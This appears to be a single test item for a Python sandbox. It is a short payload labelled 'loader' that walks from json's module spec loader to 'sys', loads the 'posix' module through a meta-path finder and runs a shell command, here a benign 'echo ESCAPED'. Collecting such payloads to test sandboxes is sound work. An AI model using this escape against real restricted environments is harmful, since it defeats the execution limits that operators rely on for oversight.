# kind: loader
# effect: prints ESCAPED
import json

spec = json.__spec__
finder = spec.loader.__init__.__globals__["sys"].meta_path[0]
finder.load_module("posix").system("echo ESCAPED")
